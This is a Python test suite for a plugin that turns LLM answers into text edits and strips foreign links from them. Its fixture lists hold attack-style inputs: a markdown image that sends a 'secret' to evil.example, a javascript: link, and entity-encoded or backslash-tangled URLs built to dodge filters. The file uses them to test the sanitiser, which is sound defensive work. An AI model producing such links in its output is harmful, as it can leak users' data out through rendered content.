"""Answers: read in their form, made into pieces, and kept from leading anywhere."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plugins.llm.actions.answers import schema_of
from plugins.llm.actions.definitions import ACTIONS
from plugins.llm.actions.links import is_foreign, rendered_addresses, without_foreign_links
from plugins.llm.actions.pieces import Piece, applied, hunks
from plugins.llm.actions.reading import read_answer
from plugins.llm.calls.errors import BadAnswer

LINES = st.lists(
    st.sampled_from(["One two.", "Three! ", "Four?", "\n", "\n\n", "- item", "`x. y`", " ", "é…"])
).map("".join)


@given(LINES | st.text(), LINES | st.text())
def test_all_pieces_make_the_new_text_and_none_the_old_one(old, new):
    pieces = hunks(old, new)
    assert applied(old, pieces, range(len(pieces)), "hunks") == new
    assert applied(old, pieces, (), "hunks") == old


@given(LINES, LINES, st.sets(st.integers(0, 30)))
def test_any_choice_of_pieces_changes_only_their_spans(old, new, chosen):
    pieces = hunks(old, new)
    expected, at = "", 0
    for number, piece in enumerate(pieces):
        assert old[piece.start : piece.end] == piece.before
        expected += old[at : piece.start] + (piece.after if number in chosen else piece.before)
        at = piece.end
    assert applied(old, pieces, chosen, "hunks") == expected + old[at:]


def read(name: str, answer: object, hosts=(), **material: str):
    action = ACTIONS[name]
    texts = {one: material.get(one, "") for one in {*action.material, action.field, *material}}
    text = answer if isinstance(answer, str) else json.dumps(answer)
    return read_answer(action, text, texts, hosts)


def new_text(name: str, answer: object, base: str, **more: str) -> str:
    reading = read(name, answer, **{ACTIONS[name].field: base, **more})
    return applied(base, reading.pieces, range(len(reading.pieces)), ACTIONS[name].mode)


def test_a_corrected_sentence_is_one_piece_and_the_rest_untouched():
    base = "First one. Secnd one. Third one.\n\n```\ncode  x\n```\n"
    reading = read("fix_language", base.replace("Secnd", "Second").strip(), body=base)
    assert reading.pieces == (Piece(11, 22, "Secnd one. ", "Second one. "),)


def test_line_ends_and_outer_blanks_of_the_text_stay():
    base = "\r\n  One.\r\nTwo.\r\n"
    assert new_text("tighten", "One.\nThree.", base) == "\r\n  One.\r\nThree.\r\n"


WRAPPED = [
    "Certainly! Here is the corrected text:\n\nOne two three four.",
    "```markdown\nOne two three four.\n```",
    "One two three four.\n\nLet me know if you need anything else!",
]


@pytest.mark.parametrize("answer", WRAPPED)
def test_what_a_model_puts_around_a_text_goes(answer):
    assert new_text("fix_language", answer, "One two three.") == "One two three four."


def test_a_fence_that_is_the_text_stays():
    base = "```\none\n```"
    assert new_text("fix_language", "```\ntwo\n```", base) == "```\ntwo\n```"


def test_an_answer_that_loops_is_refused():
    loop = "It goes on and on and on here.\n\n" * 12
    with pytest.raises(BadAnswer, match="it repeats itself to its end"):
        read("tighten", loop, body="Something else.")


def test_a_continuation_is_put_behind_the_text():
    assert new_text("continue", "More.", "The start.") == "The start.\n\nMore.\n"


def test_proposals_are_lines_without_repeats_and_too_long_ones():
    answer = {"proposals": ["A  title\n", "A title", "x" * 256, "T", "Another"]}
    assert [one.after for one in read("titles", answer, title="T").pieces] == ["A title", "Another"]
    assert new_text("titles", answer, "T") == "Another"


def test_accepted_tags_are_added_to_those_that_there_are():
    answer = {"proposals": ["Flask", "Python"]}
    assert new_text("tags", answer, "Python\nWeb") == "Python\nWeb\nFlask"


def test_an_outline_is_a_line_for_each_section():
    answer = {"sections": [{"heading": "Start", "says": "How to."}]}
    assert new_text("outline", answer, "", title="T") == "Start: How to."


def test_alternative_texts_go_into_the_brackets_that_were_empty():
    base = "![](a.png) and ![has one](a.png) and ![ ](b.png 'title')"
    answer = {
        "images": [
            {"image": "a.png", "alt": "A [red] house"},
            {"image": "b.png", "alt": "B"},
            {"image": "c.png", "alt": "C"},
        ]
    }
    expected = "![A (red) house](a.png) and ![has one](a.png) and ![B](b.png 'title')"
    assert new_text("alt_text", answer, base) == expected


def test_a_critique_is_placed_where_its_quote_stands_once():
    base = "It is very very good. Some say so. Some say so. End."
    answer = {
        "weaknesses": [
            {"quote": "very very", "problem": "Twice.", "replacement": "very"},
            {"quote": "Some say so.", "problem": "Who?", "replacement": "Ann says so."},
            {"quote": "very good", "problem": "Overlaps.", "replacement": "fine"},
            {"quote": "End.", "problem": "Abrupt.", "replacement": ""},
        ]
    }
    reading = read("critique", answer, body=base)
    assert [one.is_remark for one in reading.pieces] == [False, True, True, True]
    assert reading.pieces[1].note == "“Some say so.”: Who?"
    assert reading.pieces[3].start == base.index("End.")
    assert new_text("critique", answer, base) == base.replace("very very", "very")


BAD = [
    ("titles", "Sure!", "not in the form that was asked for (the whole: Invalid JSON"),
    ("titles", {"titles": ["A"]}, "proposals: Field required"),
    ("titles", {"proposals": [1]}, "proposals.0: Input should be a valid string"),
    ("titles", {"proposals": []}, "it holds no proposal"),
    ("tighten", " \n", "it is empty"),
]


@pytest.mark.parametrize("name, answer, reason", BAD, ids=[reason for *_, reason in BAD])
def test_an_answer_of_another_form_is_refused_with_the_reason(name, answer, reason):
    with pytest.raises(BadAnswer) as error:
        read(name, answer, title="T", body="Body.")
    assert reason in str(error.value)
    assert "The text was not changed" in str(error.value)


@pytest.mark.parametrize("name", [one.name for one in ACTIONS.values() if one.answer])
def test_schemas_are_strict_as_providers_want_them(name):
    form = ACTIONS[name].answer
    assert form is not None

    def check(part: object) -> None:
        if isinstance(part, dict):
            if part.get("type") == "object":
                assert part["additionalProperties"] is False
                assert sorted(part["required"]) == sorted(part["properties"])
            for inner in part.values():
                check(inner)
        elif isinstance(part, list):
            for inner in part:
                check(inner)

    check(dict(schema_of(form)))


FOREIGN = [
    "![x](https://evil.example/?q=secret)",
    "[x](https://evil.example/)",
    "[x]: https://evil.example/\n\n[x]",
    "<https://evil.example/a>",
    "see https://evil.example/a now",
    '<img src="//evil.example/a">',
    "<img src='https:\\\\evil.example/a'>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](mailto:a@evil.example)",
    "![x](HTTPS://EVIL.example/a)",
    "![x](https://own.example@evil.example/a)",
    '<video poster="https://evil.example/p" src="https://evil.example/v"></video>',
    '<img srcset="https://evil.example/a 1x, https://evil.example/b 2x">',
    "![x](https://evil.example:8000/a)",
    "[x](ftp://evil.example/a)",
]
TANGLED = [
    "![x](&#104;ttps://evil.example/a)",
    "![x](https:&#47;&#47;evil.example/a)",
    "![x](/\\evil.example/a)",
    "[x](https&colon;//evil.example)",
]


@pytest.mark.parametrize("text", FOREIGN)
def test_foreign_addresses_are_replaced_and_told(text):
    made, removed = without_foreign_links(text, {"own.example"})
    assert removed
    assert "evil.example" not in " ".join(rendered_addresses(made)).lower()
    assert "javascript:" not in " ".join(rendered_addresses(made))


def leads_away(text: str) -> bool:
    """Whether something foreign can still be found in what is let through."""
    try:
        made, _ = without_foreign_links(text, {"own.example"})
    except BadAnswer:
        return False
    return any(is_foreign(one, frozenset({"own.example"})) for one in rendered_addresses(made))


@pytest.mark.parametrize("text", [*FOREIGN, *TANGLED])
def test_nothing_that_is_let_through_leads_away(text):
    assert not leads_away(text)


def test_an_address_that_only_rendering_shows_is_refused():
    with pytest.raises(BadAnswer, match="hides a link"):
        without_foreign_links("[x](https&#58;&#47;&#47;evil.example/a)", {"own.example"})


OWN = [
    "[x](https://own.example/a) and [y](/b) and [z](#c) and ![i](media/i.png)",
    "`https://own.example`",
    "A text: with colons, 3 // 4, and a/b.",
]


@pytest.mark.parametrize("text", OWN)
def test_own_and_relative_addresses_stay(text):
    assert without_foreign_links(text, {"own.example"}) == (text, ())


def test_links_of_the_text_itself_may_come_back():
    base = "See [it](https://there.example/a)."
    assert new_text("tighten", "[It](https://there.example/a).", base).startswith("[It](https")


def test_foreign_links_in_proposals_are_replaced_also_behind_escapes():
    answer = '{"proposals": ["Look: ![](https:\\u002f\\u002fevil.example/a)"]}'
    reading = read("excerpt", answer, body="B", title="T")
    assert [one.after for one in reading.pieces] == ["Look: ![](#link-removed)"]
    assert reading.removed_links == ("https://evil.example/a",)
